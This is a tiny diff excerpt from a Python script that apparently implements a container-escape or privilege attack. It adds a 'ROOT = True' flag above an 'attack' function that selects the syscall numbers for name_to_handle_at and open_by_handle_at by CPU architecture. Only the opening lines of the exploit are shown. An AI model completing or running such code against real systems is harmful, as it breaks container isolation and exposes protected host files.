@@ -4,6 +4,7 @@ import ctypes
 import os
 import struct
 
+ROOT = True
 
 def attack(A):
     names = {"x86_64": (303, 304), "aarch64": (264, 265)}[os.uname().machine]
